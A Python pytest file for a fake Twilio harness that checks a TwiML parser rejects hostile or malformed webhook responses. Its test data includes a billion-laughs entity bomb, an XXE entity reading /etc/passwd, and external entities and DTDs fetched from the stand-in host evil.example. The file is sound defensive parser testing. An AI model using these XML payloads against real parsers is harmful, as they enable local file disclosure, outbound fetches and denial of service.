"""Hostile and unusual TwiML: whatever bytes an app answers a voice webhook with,
``fakeconf.dial_in`` ends in Twilio's error (a :class:`TwilioError` 12100 "Document
parse failure" or 12200 "Schema validation warning") or in a correct parse, never in
a raw exception, an expanded entity or a hang.

References: shared/reference/twilio-calls-and-twiml.md (TwiML errors: 12100 not
well-formed XML, 12200 unknown attribute or value) and [DOC-TWIML]
https://www.twilio.com/docs/voice/twiml/conference (maxParticipants "a positive
integer from 2 to 250"; the callback methods are GET or POST).
"""

from __future__ import annotations

from collections.abc import Callable, Iterable
from html import escape
from typing import Any

import pytest

from pytest_fakeconf import FakeTwilio, TwilioError

BASE = "https://app.example.com"
VOICE = f"{BASE}/voice"
ROOM = "<Response><Dial><Conference>Room</Conference></Dial></Response>"


class Served:
    """A WSGI app answering each path with the exact bytes it was given."""

    def __init__(self) -> None:
        self.bodies: dict[str, bytes] = {}

    def __call__(
        self, environ: dict[str, Any], start_response: Callable[..., Any]
    ) -> Iterable[bytes]:
        body = self.bodies.get(environ.get("PATH_INFO", "/"), b"")
        start_response("200 OK", [("Content-Type", "text/xml"), ("Content-Length", str(len(body)))])
        return [body]


@pytest.fixture
def served(fakeconf: FakeTwilio) -> Served:
    app = Served()
    fakeconf.route_webhooks(BASE, app)
    return app


def conference(name: str = "Room", **attributes: str) -> str:
    attrs = "".join(f' {key}="{escape(value)}"' for key, value in attributes.items())
    return f"<Response><Dial><Conference{attrs}>{escape(name)}</Conference></Dial></Response>"


def call(fakeconf: FakeTwilio, n: int = 1) -> Any:
    return fakeconf.dial_in(VOICE, from_=f"+1500555000{n}", to="+15558675310")


def refused(fakeconf: FakeTwilio, code: int) -> TwilioError:
    with pytest.raises(TwilioError) as caught:
        call(fakeconf)
    assert caught.value.code == code
    assert fakeconf.conferences == []  # nothing joined, nothing created
    return caught.value


def joined_room(fakeconf: FakeTwilio) -> str:
    participant = call(fakeconf)
    assert participant is not None
    return str(fakeconf.get_conference(participant.conference_sid).friendly_name)


# -- A: attribute values are ASCII ---------------------------------------------------

INVALID_ATTRIBUTES: list[tuple[str, dict[str, str]]] = [
    # str.isdigit() accepts these, int() refuses the first and reads the others
    ("max-participants-superscript-two", {"maxParticipants": "²"}),
    ("max-participants-arabic-indic-three", {"maxParticipants": "٣"}),
    ("max-participants-fullwidth-three", {"maxParticipants": "\uff13"}),
    # beyond int()'s default 4300-digit limit: ValueError, not a number
    ("max-participants-4301-digits", {"maxParticipants": "9" * 4301}),
    # int() reads these; they are not "a positive integer"
    ("max-participants-underscore", {"maxParticipants": "1_0"}),
    ("max-participants-spaces", {"maxParticipants": " 5 "}),
    ("max-participants-plus", {"maxParticipants": "+5"}),
    ("max-participants-empty", {"maxParticipants": ""}),
    ("max-participants-decimal", {"maxParticipants": "2.0"}),
    # str.upper() turns the long s (U+017F) and the ligature U+FB05 into "S"/"ST"
    (
        "status-callback-method-long-s",
        {"statusCallback": "/e", "statusCallbackMethod": "po\u017ft"},
    ),
    ("wait-method-ligature", {"waitUrl": "/w", "waitMethod": "po\ufb05"}),
    ("recording-method-long-s", {"recordingStatusCallbackMethod": "po\u017ft"}),
    # events are separated by (ASCII) spaces; a no-break space is not one
    ("events-no-break-space", {"statusCallback": "/e", "statusCallbackEvent": "start\u00a0end"}),
    ("events-em-space", {"statusCallback": "/e", "statusCallbackEvent": "start\u2003end"}),
]


@pytest.mark.parametrize(
    "attributes", [a for _, a in INVALID_ATTRIBUTES], ids=[i for i, _ in INVALID_ATTRIBUTES]
)
def test_a_non_ascii_or_malformed_attribute_value_is_12200(
    fakeconf: FakeTwilio, served: Served, attributes: dict[str, str]
) -> None:
    served.bodies["/voice"] = conference(**attributes).encode()
    refused(fakeconf, 12200)


def test_a_non_ascii_redirect_method_is_12200(fakeconf: FakeTwilio, served: Served) -> None:
    served.bodies["/voice"] = (
        '<Response><Redirect method="po\u017ft">/next</Redirect></Response>'.encode()
    )
    served.bodies["/next"] = ROOM.encode()
    refused(fakeconf, 12200)


@pytest.mark.parametrize("limit", [2, 3])
def test_an_ascii_max_participants_caps_the_room(
    fakeconf: FakeTwilio, served: Served, limit: int
) -> None:
    served.bodies["/voice"] = conference(maxParticipants=str(limit)).encode()
    for n in range(1, limit + 1):
        assert call(fakeconf, n) is not None
    with pytest.raises(TwilioError) as caught:
        call(fakeconf, limit + 1)
    assert caught.value.code == 16020  # Conference is full


def test_max_participants_250_is_accepted(fakeconf: FakeTwilio, served: Served) -> None:
    served.bodies["/voice"] = conference(maxParticipants="250").encode()
    assert joined_room(fakeconf) == "Room"


def test_ascii_methods_and_spaced_events_are_still_accepted(
    fakeconf: FakeTwilio, served: Served
) -> None:
    served.bodies["/voice"] = conference(
        statusCallback="/e", statusCallbackMethod="get", statusCallbackEvent="start\tend  join"
    ).encode()
    assert joined_room(fakeconf) == "Room"


# -- B: DTDs and entities, whatever the encoding ------------------------------------------

ENTITY = '<!DOCTYPE r [<!ENTITY n "Sales">]>'
SALES = ENTITY + "<Response><Dial><Conference>&n;</Conference></Dial></Response>"


def _laughs(levels: int = 9) -> str:
    entities = "".join(
        f' <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n'
        for i in range(1, levels + 1)
    )
    return (
        f'<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n{entities}]>\n'
        f"<Response><Dial><Conference>&lol{levels};</Conference></Dial></Response>"
    )


def _utf16(declared: str, codec: str, document: str) -> bytes:
    return (f'<?xml version="1.0" encoding="{declared}"?>' + document).encode(codec)


REFUSED: list[tuple[str, bytes]] = [
    # a DTD declaring an entity, in every UTF-16 form (the byte guard saw none of them)
    ("utf-16-bom-internal-entity", SALES.encode("utf-16")),
    ("utf-16le-no-bom-internal-entity", _utf16("UTF-16LE", "utf-16-le", SALES)),
    ("utf-16be-no-bom-internal-entity", _utf16("UTF-16BE", "utf-16-be", SALES)),
    ("utf-16le-no-bom-no-declaration", SALES.encode("utf-16-le")),
    ("utf-8-internal-entity", SALES.encode()),
    ("billion-laughs", _laughs().encode()),
    ("billion-laughs-utf-16", _laughs().encode("utf-16")),
    ("external-entity-file", b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
     b"<Response><Dial><Conference>&x;</Conference></Dial></Response>"),
    ("external-parameter-entity", b'<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/x">'
     b"%x;]><Response/>"),
    ("public-external-dtd", b'<!DOCTYPE Response PUBLIC "-//evil//EN" '
     b'"http://evil.example/twiml.dtd">' + ROOM.encode()),
    ("lower-case-doctype", b"<!doctype Response>" + ROOM.encode()),
    ("undeclared-entity", b"<Response><Dial><Conference>&n;</Conference></Dial></Response>"),
    # not UTF-8, or an encoding expat cannot read
    ("latin-1-undeclared", "<Response><Dial><Conference>Café</Conference></Dial></Response>"
     .encode("latin-1")),
    ("invalid-utf-8", b"\xff\xfe\xfd<Response/>"),
    ("utf-8-declared-utf-16", b'<?xml version="1.0" encoding="UTF-16"?>' + ROOM.encode()),
    ("unknown-encoding", b'<?xml version="1.0" encoding="x-nope"?>' + ROOM.encode()),
    ("binary-codec-encoding", b'<?xml version="1.0" encoding="hex"?>' + ROOM.encode()),
    ("idna-encoding", b'<?xml version="1.0" encoding="idna"?>' + ROOM.encode()),
    ("undefined-encoding", b'<?xml version="1.0" encoding="undefined"?>' + ROOM.encode()),
    # multi-byte encodings other than UTF-8/16 are refused (a guess: see twiml.py)
    ("utf-7", b'<?xml version="1.0" encoding="utf-7"?>' + ROOM.encode()),
    ("shift-jis", ('<?xml version="1.0" encoding="shift_jis"?>' + ROOM).encode("shift_jis")),
    ("utf-32", ('<?xml version="1.0" encoding="utf-32"?>' + ROOM).encode("utf-32")),
    ("nul-byte", b"<Response>\x00" + ROOM[10:].encode()),
    ("nul-character-reference", b"<Response><Say>&#0;</Say></Response>"),
    ("whitespace-before-declaration", b' <?xml version="1.0"?>' + ROOM.encode()),
    ("several-megabytes-unclosed", b"<Response>" + b"<Say>hello</Say>" * 300_000),
]  # fmt: skip


@pytest.mark.parametrize("body", [b for _, b in REFUSED], ids=[i for i, _ in REFUSED])
def test_hostile_or_unreadable_documents_fail_with_12100(
    fakeconf: FakeTwilio, served: Served, body: bytes
) -> None:
    served.bodies["/voice"] = body
    error = refused(fakeconf, 12100)
    assert "Sales" not in str(error) and "root:" not in str(error)
    assert "lollol" not in str(error)


ACCEPTED: list[tuple[str, bytes, str]] = [
    # a declaration-looking text that is not markup is no DTD
    ("doctype-in-a-comment", b"<Response><!-- <!DOCTYPE Response> -->"
     b"<Dial><Conference>Room</Conference></Dial></Response>", "Room"),
    ("entity-in-a-comment", b'<Response><!--<!ENTITY n "x">--><Dial><Conference>Room'
     b"</Conference></Dial></Response>", "Room"),
    ("doctype-in-cdata", b"<Response><Say><![CDATA[<!DOCTYPE x>]]></Say>"
     b"<Dial><Conference>Room</Conference></Dial></Response>", "Room"),
    ("doctype-as-text", b"<Response><Say>&lt;!DOCTYPE x&gt;</Say>"
     b"<Dial><Conference>Room</Conference></Dial></Response>", "Room"),
    ("doctype-in-a-processing-instruction", b"<?note <!DOCTYPE x>?>" + ROOM.encode(), "Room"),
    # the XML encodings every processor reads (XML 1.0 section 4.3.3)
    ("utf-16-bom", ROOM.encode("utf-16"), "Room"),
    ("utf-16le-declared-no-bom", _utf16("UTF-16LE", "utf-16-le", ROOM), "Room"),
    ("utf-16be-declared-no-bom", _utf16("UTF-16BE", "utf-16-be", ROOM), "Room"),
    ("utf-16-bom-non-ascii-name", conference("Salle à manger").encode("utf-16"),
     "Salle à manger"),
    ("utf-8-bom", b"\xef\xbb\xbf" + ROOM.encode(), "Room"),
    ("latin-1-declared", ('<?xml version="1.0" encoding="ISO-8859-1"?>'
     + conference("Café")).encode("latin-1"), "Café"),
    ("predefined-and-character-entities", b"<Response><Dial><Conference>R&amp;D &#x263A;"
     b"</Conference></Dial></Response>", "R&D \u263a"),
    ("several-megabytes", b"<Response>" + b"<Say>hello</Say>" * 300_000
     + ROOM[10:].encode(), "Room"),
    ("several-megabytes-of-comment", b"<Response><!--" + b" <!DOCTYPE x>" * 400_000
     + b"-->" + ROOM[10:].encode(), "Room"),
    ("deeply-nested-say", b"<Response><Say>" + b"<a>" * 100_000 + b"</a>" * 100_000
     + b"</Say>" + ROOM[10:].encode(), "Room"),
]  # fmt: skip


@pytest.mark.parametrize(("body", "name"), [a[1:] for a in ACCEPTED], ids=[a[0] for a in ACCEPTED])
def test_unusual_but_well_formed_documents_join_the_room_they_name(
    fakeconf: FakeTwilio, served: Served, body: bytes, name: str
) -> None:
    served.bodies["/voice"] = body
    assert joined_room(fakeconf) == name
